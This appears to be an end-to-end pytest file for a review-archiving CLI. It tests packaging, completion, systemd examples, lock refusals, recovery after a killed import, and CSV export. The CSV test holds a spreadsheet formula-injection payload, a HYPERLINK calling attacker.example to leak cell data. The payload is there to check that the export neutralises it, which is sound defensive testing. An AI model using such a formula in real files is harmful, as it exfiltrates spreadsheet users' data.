"""Issue 10's CLI items that had no test through the real command, each run as real processes:

- item 19: `scrapy list` from the repository root lists every site name; a non-editable
  `pip install` of a copy of the checkout puts ONE top-level name in site-packages (`reviewhoard`,
  its dist-info and the `hoard` script), and that install runs on its own.
- item 20: LICENSE is the MIT licence pyproject names; `hoard --version`/`-V`; shell completion as
  the README documents it, run in a real bash; the example watchlist loads in a real
  `hoard update`; the systemd units in examples/ hold what the README shows.
- item 8: an import SIGKILLed mid-run leaves its row `running`; the next import marks it `killed`
  and completes the work.
- item 5: `hoard reparse` (and `hoard import`) beside a real crawl exit 75 in one line and write
  nothing; their `--help` says so.
- item 17: a real `hoard export --format csv` neutralises texts that start like a formula and
  writes booleans as `true`/`false`, cell by cell against the JSON lines export.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from reviewhoard.hoard.lock import ArchiveLock, lock_path
from reviewhoard.replay.manifest import Fault
from reviewhoard.sites.myanimelist.scratch import ScratchSite
from reviewhoard.sites.myanimelist.synth import load_template
from tests.conftest import ROOT
from tests.e2e.update_support import count, rows, run_hoard, start_hoard, wait_for_lock

pytestmark = pytest.mark.slow

SAVED = "anime-1-reviews-2022-10.html"
BEBOP = "https://myanimelist.net/anime/1/Cowboy_Bebop/reviews"
VERSION = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["version"]
BIN = Path(sys.executable).parent
"""The venv's bin: where `hoard` and `scrapy` are installed."""
ENV = {
    k: v
    for k, v in os.environ.items()
    if k not in ("HOARD_DB", "HOARD_SITE_PATH", "SCRAPY_SETTINGS_MODULE", "PYTHONPATH")
    and not k.endswith("_BASE_URL")
}


def one_line(text: str) -> str:
    """Help text with click's wrapping undone, to find a sentence in it."""
    return " ".join(text.split())


def refusal(holder: int, db: str, lock: Path) -> str:
    """The exact line of a run refused because `holder` holds the archive's lock (a pattern)."""
    return (
        rf"hoard: another run holds the archive \(pid {holder}, since "
        rf"\d{{4}}-\d\d-\d\dT\d\d:\d\d:\d\dZ\): {re.escape(db)}; this run did nothing, try "
        rf"again later \(lock file: {re.escape(str(lock))}\)\n"
    )


# -- item 19: one package name -------------------------------------------------------------------

COPY_IGNORE = shutil.ignore_patterns(
    ".venv", ".git", ".typing", "__pycache__", ".mypy_cache", ".ruff_cache", ".pytest_cache",
    ".hypothesis", "build", "*.egg-info", "*.db", "*.db-*", "*.lock", "demo-work",
)  # fmt: skip
"""What a fresh clone would not hold (and .typing, whose symlink to the root would recurse)."""

RUN_INSTALLED = """
import json, sys
import reviewhoard
from scrapy.utils.misc import load_object, walk_modules
from reviewhoard.hoard.cli import cli
from reviewhoard.hoard.crawl.run import project_settings
from reviewhoard.sites import all_sites

settings = project_settings()
for key in ("ITEM_PIPELINES", "DOWNLOADER_MIDDLEWARES", "SPIDER_MIDDLEWARES", "EXTENSIONS"):
    for path, order in settings.getdict(key).items():
        if order is not None:
            load_object(path)
for name in settings.getlist("SPIDER_MODULES"):
    walk_modules(name)
for command in cli.list_commands(None):
    cli.get_command(None, command)
files = {
    name: getattr(module, "__file__", None) or ""
    for name, module in sys.modules.items()
    if name == "reviewhoard" or name.startswith("reviewhoard.")
}
print(json.dumps({"package": reviewhoard.__file__, "sites": sorted(all_sites()), "files": files}))
"""


def test_scrapy_list_from_the_repository_root_lists_every_site_name() -> None:
    from reviewhoard.sites import all_sites

    done = subprocess.run(
        [str(BIN / "scrapy"), "list"],
        cwd=ROOT,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    names = sorted(name for site in all_sites().values() for name in site.names)
    assert done.stdout.splitlines() == names
    assert {"mal", "myanimelist", "steam", "letterboxd", "goodreads", "trustpilot"} <= set(names)


def test_a_real_install_puts_one_name_in_site_packages_and_runs_from_there(
    tmp_path: Path, mal_fixtures: Path
) -> None:
    """`pip install --no-deps --no-build-isolation` (not editable) of a copy of the checkout (an
    in-tree build writes build/ and *.egg-info: never in the shared tree) into the site-packages
    of a fresh venv; the venv then sees the dependencies through a .pth file, added only after
    the install (so pip never sees the checkout's editable install)."""
    source = tmp_path / "source"
    shutil.copytree(ROOT, source, ignore=COPY_IGNORE, symlinks=True)
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    python = venv / "bin" / "python"
    purelib = "import sysconfig; print(sysconfig.get_path('purelib'))"
    site = Path(subprocess.run([str(python), "-c", purelib], capture_output=True, text=True,
                               check=True).stdout.strip())  # fmt: skip
    before = set(os.listdir(site)) if site.exists() else set()
    installed = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--no-deps", "--no-build-isolation",
         "--no-index", "--no-cache-dir", "--disable-pip-version-check", "--quiet",
         "--target", str(site), str(source)],
        env=ENV,
        capture_output=True,
        text=True,
        timeout=240,
        check=False,
    )  # fmt: skip
    assert installed.returncode == 0, installed.stdout[-2000:] + installed.stderr[-3000:]

    # Top level: the package, its metadata and the `hoard` script; none of the old names.
    dist_info = f"reviewhoard-{VERSION}.dist-info"
    assert set(os.listdir(site)) - before == {"reviewhoard", dist_info, "bin"}
    assert os.listdir(site / "bin") == ["hoard"]
    package = site / "reviewhoard"
    shipped = sorted(p.name for p in package.iterdir() if p.name != "__pycache__")
    product = sorted(
        p.name
        for p in ROOT.iterdir()
        if (p.is_dir() and (p / "__init__.py").exists() and p.name not in ("tests", "benchmarks"))
        or (p.suffix == ".py" and p.name != "setup.py")
    )
    assert shipped == sorted(["__init__.py", *product])
    assert {"archive", "hoard", "items.py", "settings.py", "sites", "spiders"} <= set(shipped)
    # Package data comes along: the archive's schema files, Datasette's templates and static.
    for folder, pattern in [
        ("archive", "*.yaml"), ("archive", "*.json"), ("archive", "*.sql"),
        ("archive/datasette/templates", "*.html"), ("archive/datasette/static", "*.css"),
        ("archive/datasette/static", "*.js"),
    ]:  # fmt: skip
        want = sorted(p.name for p in (ROOT / folder).glob(pattern))
        assert sorted(p.name for p in (package / folder).glob(pattern)) == want, folder
    assert (site / dist_info / "licenses" / "LICENSE").read_bytes() == (
        ROOT / "LICENSE"
    ).read_bytes()
    metadata = (site / dist_info / "METADATA").read_text(encoding="utf-8")
    assert "\nLicense-Expression: MIT\n" in metadata
    entry_points = (site / dist_info / "entry_points.txt").read_text(encoding="utf-8")
    assert "hoard = reviewhoard.hoard.cli:main" in entry_points

    # It runs from there alone: every module loads from the install, never from the checkout.
    deps = subprocess.run([sys.executable, "-c", purelib], capture_output=True, text=True,
                          check=True).stdout.strip()  # fmt: skip
    (site / "_dependencies.pth").write_text(deps + "\n", encoding="utf-8")
    loaded = subprocess.run(
        [str(python), "-c", RUN_INSTALLED],
        cwd=tmp_path,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert loaded.returncode == 0, loaded.stderr[-2000:]
    seen = json.loads(loaded.stdout)
    assert os.path.realpath(seen["package"]) == os.path.realpath(package / "__init__.py")
    assert seen["sites"] == sorted(
        p.name for p in (ROOT / "sites").iterdir() if (p / "__init__.py").exists()
    )
    inside = os.path.realpath(package) + "/"
    outside = {
        n: f for n, f in seen["files"].items() if f and not os.path.realpath(f).startswith(inside)
    }
    assert outside == {}
    assert "reviewhoard.hoard.commands.export" in seen["files"]

    script = [str(python), str(site / "bin" / "hoard")]
    version = subprocess.run([*script, "--version"], cwd=tmp_path, env=ENV, capture_output=True,
                             text=True, timeout=60, check=False)  # fmt: skip
    assert (version.returncode, version.stdout) == (0, f"hoard, version {VERSION}\n")
    extracted = subprocess.run(
        [*script, "extract", str(mal_fixtures / SAVED), "--url", BEBOP],
        cwd=tmp_path,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert extracted.returncode == 0, extracted.stderr
    expected = (mal_fixtures / SAVED.replace(".html", ".expected.jsonl")).read_text()
    ids = [json.loads(line)["review_id"] for line in extracted.stdout.splitlines()]
    assert ids == [json.loads(line)["review_id"] for line in expected.splitlines()]
    assert len(ids) == 20


# -- item 20: licence, version, completion, examples -----------------------------------------------


def test_the_licence_is_the_mit_licence_pyproject_names() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    assert project["license"] == "MIT"
    text = (ROOT / "LICENSE").read_text(encoding="utf-8")
    assert text.splitlines()[0] == "MIT License"
    assert re.search(r"^Copyright \(c\) \d{4} \S", text, re.MULTILINE)
    words = one_line(text)
    assert "Permission is hereby granted, free of charge, to any person obtaining a copy" in words
    assert 'THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND' in words


def test_version_flags_print_the_projects_version() -> None:
    for flag in ("--version", "-V"):
        done = subprocess.run([str(BIN / "hoard"), flag], env=ENV, capture_output=True,
                              text=True, timeout=60, check=False)  # fmt: skip
        assert (done.returncode, done.stdout, done.stderr) == (
            0,
            f"hoard, version {VERSION}\n",
            "",
        )


def complete_in_bash(words: str) -> list[str]:
    """What bash offers after `words` (a trailing space: a new, empty word is completed), once
    the script the README says to eval is loaded: a real bash, the real `hoard` on PATH."""
    split = words.split() + ([""] if words.endswith(" ") else [])
    script = (
        'eval "$(_HOARD_COMPLETE=bash_source hoard)"\n'
        f"COMP_WORDS=({' '.join(shlex.quote(w) for w in split)}); COMP_CWORD={len(split) - 1}\n"
        "_hoard_completion hoard\n"
        'printf "%s\\n" "${COMPREPLY[@]}"\n'
    )
    env = {**ENV, "PATH": f"{BIN}{os.pathsep}{ENV.get('PATH', '')}"}
    done = subprocess.run(["bash", "--norc", "--noprofile", "-c", script], env=env,
                          capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    return done.stdout.splitlines()


def test_shell_completion_works_as_the_readme_documents_it() -> None:
    from reviewhoard.sites import all_sites

    readme = one_line((ROOT / "README.md").read_text(encoding="utf-8"))
    assert 'eval "$(_HOARD_COMPLETE=bash_source hoard)"` to `~/.bashrc`' in readme
    assert "`zsh_source` in `~/.zshrc`" in readme
    assert "`_HOARD_COMPLETE=fish_source hoard | source`" in readme
    firsts = {
        "bash_source": "_hoard_completion() {",
        "zsh_source": "#compdef hoard",
        "fish_source": "function _hoard_completion;",
    }
    lasts = {
        "bash_source": "_hoard_completion_setup;",
        "zsh_source": "fi",
        "fish_source": 'complete --no-files --command hoard --arguments "(_hoard_completion)";',
    }
    for shell, first in firsts.items():
        done = subprocess.run([str(BIN / "hoard")], env={**ENV, "_HOARD_COMPLETE": shell},
                              capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
        assert done.returncode == 0, done.stderr
        lines = done.stdout.strip().splitlines()
        assert (lines[0], lines[-1]) == (first, lasts[shell]), shell
    # In a real bash: commands, sites and options, as the README promises.
    assert complete_in_bash("hoard ex") == ["export", "extract"]
    # Sites by key; aliases are accepted but not listed (hidden), as `hoard crawl --help` does.
    assert complete_in_bash("hoard crawl ") == sorted(all_sites())
    assert complete_in_bash("hoard crawl m") == ["myanimelist"]
    assert complete_in_bash("hoard export --forma") == ["--format"]
    assert complete_in_bash("hoard export --format ") == ["jsonl", "csv", "warc", "wacz"]


def test_the_example_watchlist_loads_in_a_real_update(tmp_path: Path) -> None:
    """`hoard update --config` the example as it is: it is read and checked, its `db` is found
    beside it, and the run stops at the archive's lock (held here) before any request; proxies
    at a closed loopback port would catch one anyway."""
    config = tmp_path / "hoard.toml"
    shutil.copyfile(ROOT / "examples" / "hoard.toml", config)
    db = tmp_path / "archive.db"
    dead = "http://127.0.0.1:9"
    env = {**ENV, "http_proxy": dead, "https_proxy": dead, "HTTP_PROXY": dead, "HTTPS_PROXY": dead}
    with ArchiveLock(db, command="test") as lock:
        done = subprocess.run([str(BIN / "hoard"), "update", "-q", "--config", str(config)],
                              cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
                              check=False)  # fmt: skip
        assert lock.held
    assert (done.returncode, done.stdout) == (75, ""), done.stderr
    assert re.fullmatch(refusal(os.getpid(), str(db.resolve()), lock_path(db)), done.stderr)
    assert sorted(os.listdir(tmp_path)) == ["archive.db.lock", "hoard.toml"]
    # The same file with a typo is refused by the same loader: the run above did read it.
    config.write_text(
        config.read_text(encoding="utf-8").replace("anime = [1, 5114]", "anmie = [1, 5114]"),
        encoding="utf-8",
    )
    typo = subprocess.run([str(BIN / "hoard"), "update", "-q", "--config", str(config)],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60,
                          check=False)  # fmt: skip
    assert typo.returncode == 2
    assert typo.stderr.startswith(f"hoard: {config}:") and "unknown key 'anmie'" in typo.stderr
    assert len(typo.stderr.splitlines()) == 1


def units(text: str) -> dict[str, dict[str, dict[str, str]]]:
    """systemd unit text -> {unit file name: {section: {key: value}}}; a unit starts at a
    `# /etc/systemd/system/NAME` comment (the README's block holds two)."""
    out: dict[str, dict[str, dict[str, str]]] = {}
    unit: dict[str, dict[str, str]] = {}
    section: dict[str, str] = {}
    for line in text.splitlines():
        named = re.match(r"# /etc/systemd/system/(\S+?):?(\s|$)", line)
        if named:
            unit = out.setdefault(named.group(1), {})
        elif line.startswith("[") and line.endswith("]"):
            section = unit.setdefault(line[1:-1], {})
        elif line.strip() and not line.startswith("#"):
            key, value = line.split("=", 1)
            assert key not in section, line
            section[key] = value
    return out


def test_the_systemd_units_in_examples_hold_what_the_readme_shows() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    (block,) = re.findall(r"```ini\n(# /etc/systemd/system/.*?)```", readme, re.DOTALL)
    shown = units(block)
    assert sorted(shown) == ["hoard-update.service", "hoard-update.timer"]
    folder = ROOT / "examples" / "systemd"
    assert sorted(p.name for p in folder.iterdir()) == sorted(shown)
    for name, sections in shown.items():
        example = units((folder / name).read_text(encoding="utf-8"))[name]
        for section, keys in sections.items():
            for key, value in keys.items():
                assert example.get(section, {}).get(key) == value, f"{name} [{section}] {key}"
    service = units((folder / "hoard-update.service").read_text())["hoard-update.service"]
    command = service["Service"]["ExecStart"].split()
    assert (Path(command[0]).name, command[1]) == ("hoard", "update")
    assert service["Service"]["Type"] == "oneshot"
    assert service["Service"]["SuccessExitStatus"] == "75"  # the lock's status, README's table
    timer = units((folder / "hoard-update.timer").read_text())["hoard-update.timer"]
    assert timer["Timer"]["OnCalendar"] == "hourly"
    assert timer["Install"]["WantedBy"] == "timers.target"
    # The service's flags are `hoard update`'s own.
    done = subprocess.run([str(BIN / "hoard"), "update", "--help"], env=ENV, capture_output=True,
                          text=True, timeout=60, check=False)  # fmt: skip
    assert done.returncode == 0
    for flag in (c for c in command[2:] if c.startswith("-")):
        assert re.search(rf"(^|[\s,]){re.escape(flag)}\b", done.stdout), flag


# -- item 8: a killed import -------------------------------------------------------------------


def session_members(session: int) -> list[int]:
    """Live processes of a session (the killed import's parser workers and fork server)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat.rsplit(")", 1)[1].split()
        if fields[0] != "Z" and int(fields[3]) == session:
            found.append(int(entry.name))
    return found


def test_a_sigkilled_import_is_marked_killed_by_the_next_which_completes_it(
    tmp_path: Path, mal_fixtures: Path
) -> None:
    template = load_template(mal_fixtures / SAVED)
    folder = tmp_path / "pages"
    folder.mkdir()
    pages = []
    for n in range(300):  # 20 distinct reviews a page: a few seconds' import
        path = folder / f"page-{n:04d}.html"
        path.write_bytes(template.render(list(range(700_000 + 20 * n, 700_020 + 20 * n)), None))
        pages.append(str(path))
    db = tmp_path / "archive.db"
    command = [sys.executable, "-m", "reviewhoard.hoard", "import", *pages, "--jobs", "2",
               "--db", str(db)]  # fmt: skip
    process = subprocess.Popen(
        command,
        cwd=tmp_path,
        env=ENV,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 60
        while not db.exists() or count(db, "pages") == 0:  # mid-run: some pages are stored
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline, "no page stored in 60 s"
            time.sleep(0.02)
        os.kill(process.pid, signal.SIGKILL)  # the import itself, as the OOM killer would
        out, _ = process.communicate(timeout=30)
        assert process.returncode == -signal.SIGKILL
        assert out == ""
        # Its parser processes end with it (their pipes close), never left running.
        deadline = time.monotonic() + 10
        while session_members(process.pid) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert session_members(process.pid) == []
    finally:
        for pid in session_members(process.pid):
            os.kill(pid, signal.SIGKILL)
        if process.poll() is None:
            process.kill()
            process.wait()
    assert rows(db, "SELECT id, command, outcome, finished_at FROM crawls") == [
        (1, "hoard import", "running", None)
    ]
    stored = count(db, "pages")
    before = count(db, "reviews")
    assert 0 < stored < len(pages)
    assert before == 20 * stored  # whole pages only

    again = run_hoard(*command[3:], cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert again.stderr == (
        "hoard: run(s) 1 ended without closing (killed?); marked killed, this run completes "
        "their work\n"
    )
    total = 20 * len(pages)
    assert again.stdout == (
        f"imported {len(pages)} pages: {total - before} reviews new, 0 updated, {before} "
        f"unchanged, 0 rejected -> {db}\n"
    )
    runs = rows(db, "SELECT id, outcome, finished_at IS NOT NULL FROM crawls ORDER BY id")
    assert runs == [(1, "killed", 1), (2, "ok", 1)]
    assert (count(db, "pages"), count(db, "reviews")) == (len(pages), total)


# -- item 5: reparse and import beside a real crawl --------------------------------------------


@pytest.fixture
def site(tmp_path: Path, mal_fixtures: Path) -> Iterator[ScratchSite]:
    with ScratchSite(tmp_path / "site", mal_fixtures) as scratch:
        yield scratch


def test_reparse_and_import_beside_a_real_crawl_exit_75_in_one_line_and_write_nothing(
    site: ScratchSite, tmp_path: Path, mal_fixtures: Path
) -> None:
    ids = list(range(3060, 3000, -1))  # 3 pages; page 2 waits, so the crawl holds the lock
    site.publish({("anime", 1): ids}, faults={("anime", 1, 2): [Fault("delay", seconds=4)]})
    crawl = start_hoard(
        "crawl", "mal", "--anime", "1", "--db", "archive.db", "--base-url", site.url,
        "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=False", cwd=tmp_path,
    )  # fmt: skip
    db = tmp_path / "archive.db"
    try:
        wait_for_lock(db, crawl)
        started = time.monotonic()
        reparse = run_hoard("reparse", "--db", "archive.db", cwd=tmp_path)
        page = str(mal_fixtures / SAVED)
        imported = run_hoard("import", page, "--url", BEBOP, "--db", "archive.db", cwd=tmp_path)
        took = time.monotonic() - started
        assert crawl.poll() is None  # the crawl held the archive all along
        summary, err = crawl.communicate(timeout=60)
    finally:
        if crawl.poll() is None:
            crawl.kill()
            crawl.wait()
    for refused in (reparse, imported):
        assert (refused.returncode, refused.stdout) == (75, ""), refused.stderr
        assert re.fullmatch(refusal(crawl.pid, "archive.db", lock_path(db)), refused.stderr)
    assert took < 8, f"the refusals took {took:.1f} s"  # neither waited for the crawl
    assert crawl.returncode == 0, err
    assert "60 new" in summary, summary
    # Only the crawl's run is recorded, with what it fetched; the refused runs left nothing.
    (run,) = rows(db, "SELECT id, command, outcome FROM crawls")
    assert run[0] == 1 and run[1].startswith("hoard crawl mal --anime 1") and run[2] == "ok"
    assert count(db, "reviews") == len(ids)
    assert rows(db, "SELECT count(*) FROM pages WHERE headers LIKE '%x-hoard-imported%'") == [(0,)]
    # After the crawl, the same reparse runs and changes nothing.
    after = run_hoard("reparse", "--db", "archive.db", "--jobs", "1", cwd=tmp_path)
    assert (after.returncode, after.stderr) == (0, "")
    assert after.stdout == (
        f"reparsed 3 pages: 0 reviews new, 0 updated, {len(ids)} unchanged, 0 rejected; 0 failed\n"
    )


def test_import_and_reparse_help_say_what_happens_beside_a_crawl() -> None:
    said = {
        "import": "One run at a time: like a crawl, an import holds the archive's run lock, so "
        "beside a running `hoard crawl`/`update`/`reparse` it exits 75 at once and writes "
        "nothing (run it again after).",
        "reparse": "Like a crawl, it holds the archive's run lock: beside another run (a "
        "`hoard crawl`/`update`/`import`) it exits 75 at once and writes nothing (run it "
        "again after).",
    }
    for verb, sentence in said.items():
        done = subprocess.run([str(BIN / "hoard"), verb, "--help"], env=ENV, capture_output=True,
                              text=True, timeout=60, check=False)  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert sentence in one_line(done.stdout), verb


# -- item 17: CSV exports a spreadsheet opens as data ------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&amp;A1,"Click") ',
    "+1+1 ",
    "-2+3 ",
    "@SUM(A1:A9) ",
]
"""What the first four reviews' texts start with (as written in the page's HTML)."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_real_csv_export_neutralises_formulas_and_writes_booleans_as_json_does(
    tmp_path: Path, mal_fixtures: Path
) -> None:
    html = (mal_fixtures / SAVED).read_text(encoding="utf-8")
    parts = html.split('<div class="text">')
    assert len(parts) == 21
    for n, formula in enumerate(FORMULAS, start=1):
        parts[n] = formula + parts[n].lstrip()
    page = tmp_path / "formulas.html"
    page.write_text('<div class="text">'.join(parts), encoding="utf-8")
    db = tmp_path / "archive.db"
    imported = run_hoard("import", str(page), "--url", BEBOP, "--jobs", "1", "--db", str(db),
                         cwd=tmp_path)  # fmt: skip
    assert imported.returncode == 0, imported.stderr
    assert imported.stdout.startswith("imported 1 page: 20 reviews new,")

    as_csv = run_hoard("export", "--format", "csv", "--db", str(db), cwd=tmp_path)
    as_jsonl = run_hoard("export", "--format", "jsonl", "--db", str(db), cwd=tmp_path)
    assert (as_csv.returncode, as_csv.stderr, as_jsonl.returncode) == (0, "", 0)
    table = list(csv.reader(io.StringIO(as_csv.stdout)))
    header, cells = table[0], table[1:]
    records = {r["review_id"]: r for r in map(json.loads, as_jsonl.stdout.splitlines())}
    assert len(cells) == len(records) == 20
    csv_rows = [dict(zip(header, row, strict=True)) for row in cells]
    starts = {}
    for row in csv_rows:
        record: dict[str, Any] = records[row["review_id"]]
        text = record["text"]
        if text.startswith(FORMULA_STARTS):
            starts[text[0]] = row["text"]
            assert row["text"] == "'" + text
        else:
            assert row["text"] == text
        for column in ("is_spoiler", "is_preliminary"):
            assert row[column] == ("true" if record[column] else "false"), column
        # No cell of any column opens as a formula.
        assert [c for c in header if row[c].startswith(FORMULA_STARTS)] == []
    assert sorted(starts) == ["+", "-", "=", "@"]
    assert starts["="].startswith('\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click") ')
    assert starts["+"].startswith("'+1+1 Cowboy Bebop is one of those series")
    assert sorted(row["is_preliminary"] for row in csv_rows) == ["false"] * 19 + ["true"]
    assert {row["is_spoiler"] for row in csv_rows} == {"false"}
